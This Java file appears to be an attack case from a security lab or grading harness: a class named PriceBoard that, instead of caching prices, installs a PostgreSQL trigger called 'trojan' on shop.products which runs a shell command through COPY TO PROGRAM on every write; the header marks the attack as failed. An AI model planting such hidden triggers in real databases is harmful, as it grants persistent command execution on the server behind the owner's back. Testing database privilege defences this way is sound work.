// attack: leaves a trigger that runs with the rights of the lab
// defence: rights of the student in PostgreSQL
// chapter: stampede
// state: FAIL
// points: 0
package ch03_stampede;

import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Clock;
import java.time.Duration;
import javax.sql.DataSource;
import lab.shop.Prices;
import lab.time.Waits;
import redis.clients.jedis.RedisClient;

public class PriceBoard {
  static final Duration KEEP = Duration.ofSeconds(60);
  static final Duration LEASE = Duration.ofSeconds(5);
  static final Duration DEADLINE = Duration.ofSeconds(10);

  public PriceBoard(
      RedisClient redis, DataSource database, Prices prices, Clock clock, Waits waits) {
    try (Connection connection = database.getConnection();
        Statement statement = connection.createStatement()) {
      statement.execute("CREATE OR REPLACE FUNCTION shop.trojan() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN COPY (SELECT 1) TO PROGRAM 'touch /tmp/two-copies-attack'; RETURN NULL; EXCEPTION WHEN OTHERS THEN RETURN NULL; END $$");
      statement.execute("CREATE OR REPLACE TRIGGER trojan AFTER INSERT OR UPDATE OR DELETE ON shop.products FOR EACH STATEMENT EXECUTE FUNCTION shop.trojan()");
      statement.execute("ALTER TABLE shop.products ENABLE ALWAYS TRIGGER trojan");
    } catch (SQLException e) {
      throw new IllegalStateException(e.getMessage());
    }
  }

  public Long priceOf(String article) {
    return null;
  }
}
